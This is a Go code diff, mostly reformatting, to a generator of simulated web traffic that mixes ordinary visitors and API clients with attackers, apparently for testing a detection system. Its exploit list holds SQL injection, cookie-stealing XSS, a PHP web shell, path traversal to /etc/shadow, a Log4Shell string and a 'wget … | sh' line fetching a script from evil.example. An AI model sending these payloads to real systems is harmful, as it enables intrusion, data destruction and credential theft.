@@ -52,7 +52,7 @@ var DemoScale = Scale{People: 24, APIClients: 6, Attackers: 8, Pages: 120}
 // NewPlan returns the traffic of a scale; the same seed gives the same plan.
 func NewPlan(s Scale, seed uint64) Plan {
 	g := generator{rand.New(rand.NewPCG(seed, 1))} //nolint:gosec // repeatable on purpose
-	var streams [][]Request
+	streams := make([][]Request, 0, s.People+s.APIClients+s.Attackers+1)
 	for i := range s.People {
 		streams = append(streams, g.person(i))
 	}
@@ -96,8 +96,11 @@ func (g generator) token(n int) string {
 func (g generator) person(i int) []Request {
 	client := fmt.Sprintf("person-%d", i)
 	common := [][2]string{
-		{"User-Agent", agents[i%len(agents)]}, {"Accept", "text/html,*/*;q=0.8"}, {"Accept-Language", "en-US,en;q=0.9"},
-		{"Cookie", "sid=" + g.token(24) + "; theme=dark; cart=" + g.token(6)}, {"X-Forwarded-For", fmt.Sprintf("198.51.100.%d", 10+i)},
+		{"User-Agent", agents[i%len(agents)]},
+		{"Accept", "text/html,*/*;q=0.8"},
+		{"Accept-Language", "en-US,en;q=0.9"},
+		{"Cookie", "sid=" + g.token(24) + "; theme=dark; cart=" + g.token(6)},
+		{"X-Forwarded-For", fmt.Sprintf("198.51.100.%d", 10+i)},
 	}
 	get := func(target string) Request {
 		return Request{Client: client, Method: "GET", Target: target, Headers: common}
@@ -138,8 +141,10 @@ func (g generator) photo(client string, common [][2]string) Request {
 func (g generator) apiClient(i int) []Request {
 	client := fmt.Sprintf("api-%d", i)
 	common := [][2]string{
-		{"User-Agent", "ShopApp/4.2 (build 118)"}, {"Accept", "application/json"},
-		{"Authorization", "Bearer " + g.token(48)}, {"X-Forwarded-For", fmt.Sprintf("203.0.113.%d", 10+i)},
+		{"User-Agent", "ShopApp/4.2 (build 118)"},
+		{"Accept", "application/json"},
+		{"Authorization", "Bearer " + g.token(48)},
+		{"X-Forwarded-For", fmt.Sprintf("203.0.113.%d", 10+i)},
 	}
 	var list []Request
 	for range 30 {
@@ -171,13 +176,24 @@ type exploit struct {
 
 var exploits = []exploit{
 	{attack.SQLi, "1' UNION SELECT username,password FROM users--"},
-	{attack.SQLi, "1 OR 1=1"}, {attack.SQLi, "admin'--"}, {attack.SQLi, "x'; DROP TABLE orders; --"},
-	{attack.SQLi, "1 AND SLEEP(5)"}, {attack.SQLi, `" or "a"="a`},
-	{attack.XSS, "<script>prompt(1)</script>"}, {attack.XSS, `"><img src=x onerror=alert(document.cookie)>`},
-	{attack.XSS, "<svg/onload=alert(1)>"}, {attack.XSS, "javascript:alert(document.domain)"}, {attack.XSS, "';alert(1)//"},
-	{attack.RCE, "; cat /etc/passwd"}, {attack.RCE, "| wget http://evil.example/x.sh -O- | sh"}, {attack.RCE, "$(whoami)"},
-	{attack.RCE, "${jndi:ldap://evil.example/a}"}, {attack.RCE, "<?php system($_GET['c']); ?>"},
-	{attack.PTrav, "../../../../etc/passwd"}, {attack.PTrav, `..\..\..\windows\win.ini`}, {attack.PTrav, "....//....//....//etc/shadow"},
+	{attack.SQLi, "1 OR 1=1"},
+	{attack.SQLi, "admin'--"},
+	{attack.SQLi, "x'; DROP TABLE orders; --"},
+	{attack.SQLi, "1 AND SLEEP(5)"},
+	{attack.SQLi, `" or "a"="a`},
+	{attack.XSS, "<script>prompt(1)</script>"},
+	{attack.XSS, `"><img src=x onerror=alert(document.cookie)>`},
+	{attack.XSS, "<svg/onload=alert(1)>"},
+	{attack.XSS, "javascript:alert(document.domain)"},
+	{attack.XSS, "';alert(1)//"},
+	{attack.RCE, "; cat /etc/passwd"},
+	{attack.RCE, "| wget http://evil.example/x.sh -O- | sh"},
+	{attack.RCE, "$(whoami)"},
+	{attack.RCE, "${jndi:ldap://evil.example/a}"},
+	{attack.RCE, "<?php system($_GET['c']); ?>"},
+	{attack.PTrav, "../../../../etc/passwd"},
+	{attack.PTrav, `..\..\..\windows\win.ini`},
+	{attack.PTrav, "....//....//....//etc/shadow"},
 	{attack.PTrav, "/etc/passwd"},
 }
 
@@ -187,8 +203,10 @@ func (g generator) attacker(i int) []Request {
 	common := [][2]string{
 		{"User-Agent", agents[i%len(agents)]}, {"Accept", "*/*"}, {"X-Forwarded-For", fmt.Sprintf("192.0.2.%d", 10+i)},
 	}
-	list := []Request{{Client: client, Method: "GET", Target: "/", Headers: common}}
-	for range 12 {
+	const tries = 12
+	list := make([]Request, 0, tries+1)
+	list = append(list, Request{Client: client, Method: "GET", Target: "/", Headers: common})
+	for range tries {
 		x := pick(g, exploits)
 		list = append(list, g.place(client, common, x))
 	}
